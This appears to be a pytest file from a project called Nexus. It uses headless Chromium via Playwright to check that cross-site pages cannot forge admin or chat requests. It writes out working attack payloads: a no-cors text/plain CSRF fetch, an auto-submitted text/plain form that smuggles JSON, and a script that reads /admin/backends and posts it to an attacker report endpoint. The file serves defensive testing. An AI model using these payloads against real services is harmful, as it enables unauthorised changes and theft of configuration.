"""Cross-site attacks from a real web page, in a real headless Chromium (Debian's package,
driven by Playwright, launched with the dashboard tests' flags).

The attacker's page is served from a second server on 127.0.0.1 (another port, so another
origin) and targets Nexus, as any page a user of the Nexus host visits could:

* a ``no-cors`` ``fetch`` POSTing a backend to the admin API (no preflight for text/plain);
* an auto-submitted ``<form enctype="text/plain">`` POSTing a chat request, whose backend
  answers with an HTML page carrying a script that reads ``/admin/backends`` and reports it
  to the attacker. Rendered on Nexus's origin, that script could read everything.
"""

from __future__ import annotations

import asyncio
import html
import os
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import orjson
import pytest
from aiohttp import web

from tests.fakes import FakeModel, FakeVLLM
from tests.fakes.hostile import Chat, HostileBackend
from tests.helpers import Nexus, running_nexus

CHROMIUM = "/usr/bin/chromium"
pytestmark = pytest.mark.skipif(
    not os.path.exists(CHROMIUM),
    reason=f"{CHROMIUM} is missing: run scripts/setup-browser (installs Debian's chromium)",
)
playwright_api = pytest.importorskip("playwright.async_api", reason="playwright is missing")

from tests.dashboard.test_browser import ARGS  # noqa: E402  (the dashboard tests' flags)


class Attacker:
    """The attacker's web server: serves pages, and records what its scripts report."""

    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        self.reports: list[bytes] = []
        self.runner: web.AppRunner | None = None
        self.url = ""

    async def start(self) -> None:
        app = web.Application()
        app.router.add_get("/{name}", self.page)
        app.router.add_post("/report", self.report)
        self.runner = web.AppRunner(app, access_log=None)
        await self.runner.setup()
        site = web.TCPSite(self.runner, "127.0.0.1", 0)
        await site.start()
        self.url = f"http://127.0.0.1:{self.runner.addresses[0][1]}"

    async def stop(self) -> None:
        if self.runner is not None:
            await self.runner.cleanup()

    async def page(self, request: web.Request) -> web.Response:
        body = self.pages.get(request.match_info["name"])
        if body is None:
            raise web.HTTPNotFound()
        return web.Response(text=body, content_type="text/html")

    async def report(self, request: web.Request) -> web.Response:
        self.reports.append(await request.read())
        return web.Response(text="thanks")


@pytest.fixture
async def attacker() -> AsyncIterator[Attacker]:
    server = Attacker()
    await server.start()
    try:
        yield server
    finally:
        await server.stop()


@pytest.fixture
async def browser() -> AsyncIterator[Any]:
    async with playwright_api.async_playwright() as p:
        browser = await p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        try:
            yield browser
        finally:
            await browser.close()


async def new_page(browser: Any) -> tuple[Any, list[Any]]:
    """A fresh page, and the list every response it gets lands in."""
    context = await browser.new_context()
    page = await context.new_page()
    responses: list[Any] = []
    page.on("response", lambda response: responses.append(response))
    return page, responses


NO_CORS_POST = """async ([url, body]) => {
    await fetch(url, {mode: "no-cors", method: "POST",
                      headers: {"Content-Type": "text/plain"}, body: body});
    return true;
}"""


async def test_a_cross_site_page_cannot_add_a_backend(
    tmp_path: Path, browser: Any, attacker: Attacker
) -> None:
    attacker.pages["blank"] = "<!doctype html><title>cute cats</title>"
    async with running_nexus(tmp_path, []) as nexus, FakeVLLM([FakeModel("x")]) as target:
        page, responses = await new_page(browser)
        await page.goto(attacker.url + "/blank")
        body = orjson.dumps({"url": target.url, "name": "planted", "type": "vllm"}).decode()
        async with asyncio.timeout(20):
            assert await page.evaluate(NO_CORS_POST, [nexus.url + "/admin/backends", body])
        answered = [r for r in responses if r.url == nexus.url + "/admin/backends"]
        assert answered, "the request never reached Nexus"  # the test really attacked
        assert answered[0].status in (403, 415)
        assert len(nexus.state.registry) == 0
        assert nexus.state.registry.find("planted") is None
        assert target.requests == []


def form_page(nexus: Nexus) -> str:
    # text/plain encodes a form as "name=value": the name carries the JSON, the value closes it.
    name = '{"model": "m", "messages": [{"role": "user", "content": "hi"}], "pad": "'
    return f"""<!doctype html><title>win a prize</title>
<form id="f" method="POST" enctype="text/plain" action="{nexus.url}/v1/chat/completions">
<input type="hidden" name="{html.escape(name)}" value='"}}'></form>
<script>document.getElementById("f").submit()</script>"""


def stealing_page(attacker: Attacker) -> bytes:
    script = (
        "fetch('/admin/backends').then(r => r.text()).then(t => fetch("
        f"'{attacker.url}/report', {{method: 'POST', mode: 'no-cors', body: 'stolen:' + t}}))"
    )
    return (
        f"<!doctype html><html><body><h1>error</h1><script>{script}</script></body></html>".encode()
    )


async def test_backend_html_never_runs_on_nexus_origin(
    tmp_path: Path, browser: Any, attacker: Attacker
) -> None:
    async with HostileBackend() as fake:
        fake.chat = Chat.HTML_400
        fake.html = stealing_page(attacker)
        async with running_nexus(
            tmp_path, [{"name": "h", "url": fake.url, "type": "vllm"}]
        ) as nexus:
            attacker.pages["form"] = form_page(nexus)
            page, responses = await new_page(browser)
            chat = nexus.url + "/v1/chat/completions"
            async with page.expect_response(chat, timeout=20_000) as info:
                await page.goto(attacker.url + "/form")
            answer = await info.value
            await page.wait_for_load_state("load", timeout=20_000)
            # Whatever the page could have done, it had time to do it.
            await asyncio.sleep(2)
            assert attacker.reports == [], attacker.reports[0][:200]
            ctype = (await answer.all_headers()).get("content-type", "")
            assert answer.status == 415 or ctype.startswith("application/json"), (
                answer.status,
                ctype,
            )
            assert (await answer.all_headers()).get("x-content-type-options") == "nosniff"
            assert page.url == chat  # the browser really did go to Nexus
            assert not [r for r in responses if r.url == nexus.url + "/admin/backends"]
